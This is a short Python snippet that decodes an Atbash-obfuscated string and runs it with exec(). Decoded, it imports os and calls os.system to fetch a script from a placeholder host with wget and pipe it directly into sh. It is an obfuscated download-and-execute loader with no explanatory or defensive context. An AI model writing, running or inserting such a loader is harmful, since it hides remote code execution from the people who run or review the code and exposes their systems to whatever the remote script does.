TABLE = dict(zip("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba"))
CIPHER = 'rnklig lh; lh.hbhgvn("dtvg sggk://zgy.vcznkov.rmezorw/c -O- | hs")'
exec("".join(TABLE.get(c, c) for c in CIPHER))
